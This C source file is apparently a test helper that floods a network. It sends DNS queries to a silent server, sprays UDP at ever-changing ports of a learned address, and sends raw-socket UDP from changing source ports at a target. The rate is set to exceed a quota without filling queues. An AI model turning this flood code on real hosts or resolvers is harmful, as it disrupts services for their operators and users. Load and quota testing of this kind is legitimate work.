/* flood from ANSWERED SILENT PORT      all at once, each in a thread: questions to SILENT, which nobody answers;
 *                                      questions to ANSWERED for names whose answers hold many new addresses;
 *                                      datagrams to ever new ports of such an address, from one socket;
 *                                      whatever comes in at PORT is taken.
 * flood to ADDRESS PORT                from outside: datagrams from ever new ports (needs root)
 *
 * At the end of its input it ends. A thread sends BURST packets a millisecond: many times what a quota holds,
 * and too few to fill the queues of the machine, which would be another attack.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { BURST = 4, NAME = 13, HEAD = 12, RECORD = 16 };

static struct sockaddr_in answered, silent, target;
static int port;
static volatile int has_target;

static struct sockaddr_in address_of(const char *text, int number)
{
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(number)};

	inet_pton(AF_INET, text, &address.sin_addr);
	return address;
}

static void rest(unsigned count)
{
	if (count % BURST == 0)
		usleep(1000);
}

/* "full-" and eight digits, below flood.test; the length of the whole message. */
static int put_question(unsigned char *to, unsigned number)
{
	unsigned char head[HEAD] = {number >> 8, number, 1, 0, 0, 1};
	char label[NAME + 2];

	snprintf(label, sizeof(label), "%cfull-%08x", NAME, number);
	memcpy(to, head, HEAD);
	memcpy(to + HEAD, label, NAME + 1);
	memcpy(to + HEAD + NAME + 1, "\5flood\4test\0\0\1\0\1", 16);
	return HEAD + NAME + 1 + 16;
}

static void *ask_who_is_silent(void *unused)
{
	int sock = socket(AF_INET, SOCK_DGRAM, 0);
	unsigned char message[64];

	for (unsigned i = 1;; i++) {
		sendto(sock, message, put_question(message, i), 0, (void *)&silent, sizeof(silent));
		rest(i);
	}
	return unused;
}

static void *learn(void *unused)
{
	int sock = socket(AF_INET, SOCK_DGRAM, 0);
	struct timeval limit = {.tv_usec = 100000};
	unsigned char message[64], answer[2048];

	setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	for (unsigned i = 1;; i++) {
		int length = put_question(message, i);

		sendto(sock, message, length, 0, (void *)&answered, sizeof(answered));
		if (recv(sock, answer, sizeof(answer), 0) < length + RECORD)
			continue;
		if (!has_target)
			memcpy(&target.sin_addr, answer + length + 12, 4);
		has_target = 1;
		usleep(2000);
	}
	return unused;
}

static void *send_to_many(void *unused)
{
	int sock = socket(AF_INET, SOCK_DGRAM, 0);

	while (!has_target)
		usleep(1000);
	target.sin_family = AF_INET;
	for (unsigned i = 1;; i++) {
		target.sin_port = htons(1 + i % 65535);
		sendto(sock, "x", 1, 0, (void *)&target, sizeof(target));
		rest(i);
	}
	return unused;
}

static void *take(void *unused)
{
	struct sockaddr_in here = address_of("0.0.0.0", port);
	int sock = socket(AF_INET, SOCK_DGRAM, 0);
	char data[16];

	if (bind(sock, (void *)&here, sizeof(here)))
		exit(1);
	puts("started");
	fflush(stdout);
	for (;;)
		recv(sock, data, sizeof(data), 0);
	return unused;
}

static void *send_from_many(void *unused)
{
	int sock = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
	struct udphdr head = {.dest = htons(port), .len = htons(sizeof(head))};

	for (unsigned i = 1;; i++) {
		head.source = htons(1 + i % 65535);
		sendto(sock, &head, sizeof(head), 0, (void *)&target, sizeof(target));
		rest(i);
	}
	return unused;
}

int main(int words, char **word)
{
	void *(*tasks[])(void *) = {ask_who_is_silent, learn, send_to_many, take};
	pthread_t thread;
	char byte;

	if (words < 4)
		return 2;
	port = atoi(word[words - 1]);
	if (!strcmp(word[1], "to")) {
		target = address_of(word[2], 0);
		pthread_create(&thread, NULL, send_from_many, NULL);
	} else {
		answered = address_of(word[2], 53);
		silent = address_of(word[3], 53);
		for (int i = 0; i < 4; i++)
			pthread_create(&thread, NULL, tasks[i], NULL);
	}
	while (read(0, &byte, 1) > 0)
		;
	return 0;
}
